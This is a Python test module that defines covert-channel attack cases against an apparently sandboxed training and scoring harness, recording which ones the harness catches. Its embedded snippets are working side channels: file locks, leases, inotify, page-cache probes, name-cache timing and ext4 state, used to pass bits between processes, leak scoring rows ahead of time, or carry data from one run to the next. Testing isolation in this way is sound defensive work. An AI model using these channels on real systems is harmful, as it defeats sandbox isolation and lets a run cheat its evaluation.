"""Attacks that speak by what the kernel keeps of files that everybody can only read (7, 17)."""

from tests.attacks.attack import CAUGHT, CONTRACT, HONEST, SILENT, Attack, at_import, before_training
from tests.attacks.memory_attacks import guarded, tells_the_other_scorer
from tests.research.judged import variant

FILES = """
import ctypes, errno, fcntl, hashlib, mmap, struct, sysconfig, threading

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.mmap.restype = ctypes.c_void_p
PATTERN = [int(b) for b in f"{int(hashlib.sha256(b'$marker').hexdigest(), 16):0256b}"[:64]]
PATHS = sorted(Path(sysconfig.get_paths()["stdlib"], "encodings").glob("*.py"))[:64]
OPENED = {}

def opened(i):
    if i not in OPENED:
        OPENED[i] = os.open(PATHS[i], os.O_RDONLY)
    return OPENED[i]

def call(number, *arguments):
    values = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    answer = LIBC.syscall(ctypes.c_long(number), *values)
    if answer < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return answer

def lock(kind, start, length=1):
    return struct.pack("hhqqixxxx", kind, 0, start, length, 0)

def is_the_pattern(marked):
    heard = []
    for i in range(len(PATTERN)):
        try:
            heard.append(bool(marked(i)))
        except Exception as error:
            print("attempt failed:", repr(error)[:200], flush=True)
            return False
    return sum(a == b for a, b in zip(heard, PATTERN)) >= 60
"""
"""A pattern of 64 bits that changes with each attack, and 64 files that any process can read."""

SAYS = """
def say():
    for n in range(50):
        for i, bit in enumerate(PATTERN):
            if bit:
                mark(i)
        time.sleep(0.1)

if "scorer" in os.getcwd():
    threading.Thread(target=say, daemon=True).start()
"""

HEARS = """
until = time.monotonic() + 2
while time.monotonic() < until:
    if is_the_pattern(marked):
        print("LEAK heard another process of the run", flush=True)
        break
    time.sleep(0.1)
"""


FILTER_ALONE = "without the filter, what the kernel keeps of files is a channel"


def spoken(what: str, functions: str, *, sample: bool = False) -> Attack:
    """Both scorers `mark(i)` bits as long as they live; the trainer, which has a log, reads them by `marked(i)`."""
    text = at_import(SAYS, before_training(HEARS))
    return Attack(
        number=7,
        name=f"a scorer tells the trainer something by {what}",
        tries="use what the kernel keeps of a file that both can only read",
        train_py=variant((CONTRACT, f"{CONTRACT}{FILES}{functions}"), text=text),
        statuses=SILENT,
        residue_without_seccomp=FILTER_ALONE,
        sample=sample,
    )


PLANTS = """
clear()
for i, bit in enumerate(PATTERN):
    if bit:
        mark(i)
"""

FINDS = """
if is_the_pattern(marked):
    print("LEAK what an earlier run left", flush=True)
"""


def left(what: str, functions: str, *, residue: str = "", sample: bool = False) -> Attack:
    """A run clears and marks bits, and the next one reads them."""
    first, second = (
        variant((CONTRACT, f"{CONTRACT}{FILES}{functions}"), text=before_training(code)) for code in (PLANTS, FINDS)
    )
    return Attack(
        number=17,
        name=f"leaves something in {what}",
        tries="start from what an earlier run has learned",
        first=first,
        train_py=second,
        residue=residue,
        residue_without_seccomp=FILTER_ALONE,
        sample=sample,
    )


RECORD_LOCKS = """
def mark(i):
    fcntl.fcntl(opened(0), SET, lock(fcntl.F_RDLCK, i))

def marked(i):
    return struct.unpack("hhqqixxxx", fcntl.fcntl(opened(0), GET, lock(fcntl.F_WRLCK, i)))[0] != fcntl.F_UNLCK
"""

FLOCK = """
def mark(i):
    fcntl.flock(opened(i), fcntl.LOCK_EX | fcntl.LOCK_NB)

def marked(i):
    descriptor = os.open(PATHS[i], os.O_RDONLY)
    try:
        fcntl.flock(descriptor, fcntl.LOCK_SH | fcntl.LOCK_NB)
    except BlockingIOError:
        return True
    finally:
        os.close(descriptor)
    return False
"""

LEASES = """
def mark(i):
    fcntl.fcntl(opened(i), 1024, fcntl.F_RDLCK)

def marked(i):
    return fcntl.fcntl(opened(i), 1025) != fcntl.F_UNLCK
"""

WATCHES = """
SEEN = set()

def mark(i):
    with open(PATHS[i], "rb") as file:
        file.read(1)

def marked(i):
    if not SEEN:
        watch = LIBC.inotify_init1(os.O_NONBLOCK)
        if watch < 0 or LIBC.inotify_add_watch(watch, bytes(PATHS[0].parent), EVENT) < 0:
            raise OSError(ctypes.get_errno(), "inotify")
        time.sleep(0.5)
        events, names = os.read(watch, 2**20), {path.name: n for n, path in enumerate(PATHS)}
        while events:
            size = struct.unpack_from("iIII", events)[3]
            SEEN.add(names.get(events[16 : 16 + size].rstrip(b"\\0").decode()))
            events = events[16 + size :]
    return i in SEEN
"""

EVICTS = """
def clear():
    for i in range(64):
        os.posix_fadvise(opened(i), 0, 0, os.POSIX_FADV_DONTNEED)

def mark(i):
    with open(PATHS[i], "rb", 0) as file:
        file.read()
"""

RESIDENT = {
    "the page cache, read by RWF_NOWAIT": """
def marked(i):
    try:
        return os.preadv(opened(i), [bytearray(1)], 0, os.RWF_NOWAIT) == 1
    except BlockingIOError:
        return False
""",
    "the page cache, read by mincore": """
def marked(i):
    place = LIBC.mmap(None, ctypes.c_size_t(4096), 1, 1, opened(i), ctypes.c_long(0))
    vector = ctypes.create_string_buffer(1)
    call(27, place, 4096, vector)
    return vector.raw[0] & 1
""",
    "the page cache, read by cachestat": """
def marked(i):
    counts = (ctypes.c_uint64 * 5)()
    call(451, opened(i), bytes(16), counts, 0)
    return counts[0] > 0
""",
    "the page cache, read by native AIO": """
def marked(i):
    context = ctypes.c_uint64(0)
    call(206, 1, ctypes.byref(context))
    buffer, events = ctypes.create_string_buffer(16), ctypes.create_string_buffer(32)
    request = struct.pack("QIIHhIQQqQII", 0, 0, os.RWF_NOWAIT, 0, 0, opened(i), ctypes.addressof(buffer), 1, 0, 0, 0, 0)
    request = struct.pack("QII", 0, 0, os.RWF_NOWAIT) + request[16:]
    kept = ctypes.create_string_buffer(request, len(request))
    call(209, context.value, 1, ctypes.byref(ctypes.c_uint64(ctypes.addressof(kept))))
    call(208, context.value, 1, 1, events, None)
    return struct.unpack_from("q", events, 16)[0] == 1
""",
}

NAMES = """
def name(i):
    return bytes(PATHS[0].parent / f"$marker-{i}")

def clear():
    pass

def mark(i):
    os.path.exists(name(i))
"""

NAMES_READ_BY_OPENAT2 = """
def marked(i):
    try:
        call(437, -100, name(i), struct.pack("QQQ", 0, 0, 0x20), 24)
    except FileNotFoundError:
        return True
    except BlockingIOError:
        return False
"""

NAMES_READ_BY_TIME = """
TIMES = []

def took(path):
    began = time.perf_counter_ns()
    LIBC.access(path, 0)
    return time.perf_counter_ns() - began

def marked(i):
    if not TIMES:
        TIMES.extend(took(name(n)) for n in range(64))
    ordered = sorted(TIMES)
    gap = max(range(63), key=lambda n: (ordered[n + 1] - ordered[n]) if 10 < n < 54 else 0)
    return TIMES[i] <= ordered[gap]
"""

STATES = """
def clear():
    pass

def mark(i):
    fcntl.ioctl(opened(i), 0xC020660B, struct.pack("QQIIII", 0, 2**40, 4, 0, 0, 0))  # FIEMAP, with FIEMAP_FLAG_CACHE

def marked(i):
    return struct.unpack("I", fcntl.ioctl(opened(i), 0x40046629, bytes(4)))[0] & 1  # EXT4_IOC_GETSTATE
"""

HINTS = """
def clear():
    pass

def mark(i):
    fcntl.fcntl(opened(i), 1036, struct.pack("Q", 5))

def marked(i):
    return struct.unpack("Q", fcntl.fcntl(opened(i), 1035, bytes(8)))[0] == 5
"""

RESIDUE = "the time that a lookup takes tells whether its name was looked up before"

ROWS_BY_LOCKS = """
import fcntl, struct, sysconfig
PATHS = sorted(Path(sysconfig.get_paths()["stdlib"]).rglob("*.py"))[:500]
OPENED, SENT = {}, [0]
ROW = 16 * CONTRACT.MAX_SEQ_LEN

def lock(kind, i):
    return struct.pack("hhqqixxxx", kind, 0, i // 500, 1, 0)

def opened(i):
    if i % 500 not in OPENED:
        OPENED[i % 500] = os.open(PATHS[i % 500], os.O_RDONLY)
    return OPENED[i % 500]

def put(rows):
    for i in range(8 * SENT[0], 8 * len(rows)):
        if rows[i // 8] >> (i % 8) & 1:
            fcntl.fcntl(opened(i), SET, lock(fcntl.F_RDLCK, i))
    SENT[0] = len(rows)

def is_set(i):
    return struct.unpack("hhqqixxxx", fcntl.fcntl(opened(i), GET, lock(fcntl.F_WRLCK, i)))[0] != fcntl.F_UNLCK

def get():
    rows = bytearray()
    while True:
        bits = [is_set(8 * len(rows) + i) for i in range(ROW)]
        if not any(bits):
            return bytes(rows) or None
        rows += bytes(sum(bit << n for n, bit in enumerate(bits[i : i + 8])) for i in range(0, ROW, 8))
"""

BY_RECORD = {"record locks": ("fcntl.F_SETLK", "fcntl.F_GETLK"), "locks of an open file": ("37", "36"),
             "waiting record locks": ("fcntl.F_SETLKW", "fcntl.F_GETLK")}  # fmt: skip


def by_locks(text: str, kind: str) -> str:
    set_lock, get_lock = BY_RECORD[kind]
    return text.replace("SET,", f"{set_lock},").replace("GET,", f"{get_lock},")


FILE_STATE_ATTACKS: list[Attack] = [
    *(spoken(kind, by_locks(RECORD_LOCKS, kind), sample=kind == "record locks") for kind in BY_RECORD),
    *(
        Attack(
            number=7,
            name=f"tells the other scorer all rows by {kind}",
            tries="look ahead, and have the other process answer the same",
            train_py=tells_the_other_scorer(guarded(by_locks(ROWS_BY_LOCKS, kind))),
            statuses=CAUGHT,
            honest=HONEST,
        )
        for kind in BY_RECORD
    ),
    spoken("flock", FLOCK),
    spoken("leases", LEASES),
    spoken("files that it opens (inotify)", WATCHES.replace("EVENT", "0x20")),
    spoken("files that it reads (inotify)", WATCHES.replace("EVENT", "0x1")),
    spoken("files that it closes (inotify)", WATCHES.replace("EVENT", "0x10")),
    *(left(what, EVICTS + functions, sample="RWF" in what) for what, functions in RESIDENT.items()),
    left("the cache of names, read by openat2", NAMES + NAMES_READ_BY_OPENAT2),
    left("the cache of names, read by the time that it takes", NAMES + NAMES_READ_BY_TIME, residue=RESIDUE),
    left("the state of a file on ext4", STATES),
    left("the write hint of a file", HINTS),
]
